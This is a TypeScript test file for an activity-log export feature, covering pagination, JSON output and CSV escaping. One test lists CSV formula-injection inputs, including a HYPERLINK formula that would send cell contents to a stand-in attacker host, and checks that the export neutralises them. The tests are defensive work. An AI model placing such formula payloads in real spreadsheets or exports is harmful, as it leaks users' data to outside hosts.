import { expect, test } from 'vitest';
import { ActivityEntry } from '#src/contracts/activity.ts';
import { formatActivity, readAll } from './export-activity.ts';

const entryOf = (title: string, id = '0197f5a0-0000-7000-8000-000000000003') =>
  ActivityEntry.parse({
    id,
    at: '2026-11-20T10:00:00.000Z',
    by: 'client',
    clientId: 'an-id',
    runId: null,
    tool: 'delete_task',
    outcome: 'ok',
    arguments: '{}',
    before: {
      id,
      title,
      notes: '',
      status: 'open',
      priority: 'none',
      dueOn: null,
      tags: [],
      position: 'a0',
      version: 1,
      createdAt: '2026-11-20T10:00:00.000Z',
      updatedAt: '2026-11-20T10:00:00.000Z',
      completedAt: null,
    },
    after: null,
    undoes: null,
    undo: 'possible',
    traceId: 'abc',
  });

test('an export holds every page', async () => {
  const pages = new Map([
    [undefined, { items: [entryOf('a'), entryOf('b')], nextCursor: 'second' }],
    ['second', { items: [entryOf('c')], nextCursor: null }],
  ]);
  const entries = await readAll(async (cursor) => {
    const page = pages.get(cursor);
    if (!page) throw new Error('There is no such page.');
    return page;
  });
  expect(entries.map(({ before }) => before?.title)).toEqual(['a', 'b', 'c']);
});

test('JSON holds the rows before and after, and the client by its name', () => {
  const [entry] = JSON.parse(formatActivity([entryOf('Buy milk')], 'json', { 'an-id': 'Claude' }));
  expect(entry).toMatchObject({
    client: 'Claude',
    tool: 'delete_task',
    before: { title: 'Buy milk' },
    after: null,
  });
});

test.each([
  '=HYPERLINK("https://attacker.test?"&A1)',
  '+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  ' =1',
  '\r=1',
  '＝1',
])('no cell of a CSV file is a formula: %j', (title) => {
  const csv = formatActivity([entryOf(title)], 'csv', { 'an-id': title });
  const cells = [...csv.matchAll(/"((?:[^"]|"")*)"/g)].map(([, text = '']) => text);
  expect(cells).toContain(`'${title.replaceAll('"', '""')}`);
  for (const cell of cells) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
});

test('quotes, commas and line ends stay inside of their cell', () => {
  const csv = formatActivity([entryOf('say "hi",\nthen go')], 'csv', {});
  expect(csv).toContain('"say ""hi"",\nthen go"');
  expect(csv.split('\r\n')).toHaveLength(3);
});
